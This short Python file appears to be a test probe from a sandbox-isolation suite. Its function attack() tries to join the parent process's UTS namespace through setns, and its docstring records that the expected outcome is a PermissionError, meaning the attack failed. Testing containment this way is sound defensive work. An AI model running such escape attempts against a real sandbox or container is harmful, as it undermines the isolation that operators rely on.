"""Enter the namespaces of the parent.

kind: escaping
attacks: cell
mentions: PermissionError | the attack failed
twin: root
"""

import ctypes
import os


def attack():
    descriptor = os.open(f"/proc/{os.getppid()}/ns/uts", os.O_RDONLY)
    return ctypes.CDLL(None, use_errno=True).setns(descriptor, 0) == 0
